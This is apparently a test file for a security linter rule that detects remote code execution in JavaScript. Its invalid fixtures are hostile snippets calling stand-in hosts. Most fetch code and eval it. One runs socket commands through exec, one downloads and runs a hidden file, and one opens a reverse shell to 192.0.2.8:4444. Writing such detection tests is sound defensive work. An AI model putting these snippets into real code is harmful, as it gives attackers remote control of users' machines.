import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/remote-code-execution.ts'

new RuleTester().run(rule, {
  valid: [
    "const axios = require('axios'); axios.get('https://api.invalid/v').then((r) => console.log(r.data))",
    "eval('1 + 1')",
    "const tpl = 'x'; const f = new Function('obj', 'return ' + JSON.stringify(tpl)); f({})",
    // a fixed set of actions, not the raw message
    "const WebSocket = require('ws'); const ws = new WebSocket(cfg.url); const A = { restart: () => pm.restart() }; ws.on('message', (m) => { const a = A[JSON.parse(m).action]; if (a) a() })",
    "const { exec } = require('child_process'); exec('git status', (e, out) => console.log(out))",
  ],
  invalid: [
    { name: 'axios then eval', code: "const axios = require('axios'); axios.get('https://c2.invalid/p').then((r) => eval(r.data))", errors: [{ severity: 'critical', message: 'executes code received from the network' }] },
    { name: 'fetch text then eval', code: "fetch('http://192.0.2.1/x').then((r) => r.text()).then(eval)", errors: [{ severity: 'critical' }] },
    {
      name: 'https stream concatenated then eval',
      code: "const https = require('https'); https.get('https://c2.invalid', (res) => { let b = ''; res.on('data', (d) => { b += d }); res.on('end', () => eval(b)) })",
      errors: [{ severity: 'critical' }],
    },
    { name: 'Function.constructor with require', code: "const axios = require('axios'); async function go(u) { const r = await axios.get(u); new (Function.constructor)('require', r.data)(require) } go(process.env.U)", errors: [{ severity: 'critical' }] },
    {
      name: 'socket command to exec',
      code: "const { io } = require('socket.io-client'); const { exec } = require('child_process'); const s = io('https://c2.invalid'); s.on('command', (c) => exec(c, (e, o) => s.emit('message', o)))",
      errors: [{ severity: 'critical', message: 'remote shell' }],
    },
    {
      name: 'download to a home dot-file, then run it',
      code: "const fs = require('fs'); const os = require('os'); const { exec } = require('child_process'); const f = os.homedir() + '/.sysinfo'; require('request').get('http://192.0.2.4/client/1', (e, r, body) => { fs.writeFileSync(f, body); exec('python3 \"' + f + '\"') })",
      errors: [{ severity: 'critical', message: 'wrote from downloaded or decoded data' }],
    },
    {
      name: 'helper function passes the response along',
      code: "const https = require('https'); function get(u, cb) { https.get(u, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => cb(d)) }) } get('https://c2.invalid/x', (code) => eval(code))",
      errors: [{ severity: 'critical' }],
    },
    {
      name: 'binary installed into the package directory is only medium',
      code: "const fs = require('fs'); const path = require('path'); const https = require('https'); const { execFileSync } = require('child_process'); const bin = path.join(__dirname, 'bin', 'tool'); https.get('https://registry.npmjs.org/x/-/x-1.0.0.tgz', (res) => { const c = []; res.on('data', (d) => c.push(d)); res.on('end', () => { fs.writeFileSync(bin, Buffer.concat(c)); execFileSync(bin, ['--version']) }) })",
      errors: [{ severity: 'medium' }],
    },
  ],
})

new RuleTester().run(rule, {
  valid: ["const { spawn } = require('child_process'); const sh = spawn('/bin/sh', ['-c', 'ls']); sh.stdout.pipe(process.stdout)"],
  invalid: [
    {
      name: 'reverse shell over net',
      code: "const net = require('net'); const { spawn } = require('child_process'); const client = new net.Socket(); client.connect(4444, '192.0.2.8', () => { const sh = spawn('/bin/sh', []); client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client) })",
      errors: [{ severity: 'critical', message: 'reverse shell' }],
    },
  ],
})

new RuleTester().run(rule, {
  valid: ['var a = b; var b = a; a(1)', 'let x = y, y = x; x(); y()'],
  invalid: [{ name: "alias cycle does not blind the analysis", code: "var a = b; var b = a; require(\"axios\").get(\"https://x.invalid\").then((r) => eval(r.data))", errors: 1 }],
})
